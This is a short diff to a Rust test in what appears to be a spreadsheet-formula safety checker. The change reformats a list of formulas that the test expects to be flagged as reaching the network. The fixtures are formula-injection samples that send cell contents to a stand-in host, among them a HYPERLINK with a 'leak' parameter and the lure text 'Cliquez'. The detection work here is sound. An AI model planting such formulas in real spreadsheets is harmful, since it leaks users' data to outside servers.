@@ -158,9 +158,12 @@ mod tests {
 
     #[test]
     fn requests_and_built_links_reach_the_network() {
-        for formula in
-            ["=WEBSERVICE(\"https://x.test/?\"&A1)", "_xlfn.WEBSERVICE(A1)", "HYPERLINK(\"https://x.test/?leak=\"&A1,\"Cliquez\")", "=IMPORTXML(A1,A2)"]
-        {
+        for formula in [
+            "=WEBSERVICE(\"https://x.test/?\"&A1)",
+            "_xlfn.WEBSERVICE(A1)",
+            "HYPERLINK(\"https://x.test/?leak=\"&A1,\"Cliquez\")",
+            "=IMPORTXML(A1,A2)",
+        ] {
             assert_eq!(danger(formula), Some(Danger::Network), "{formula}");
         }
     }
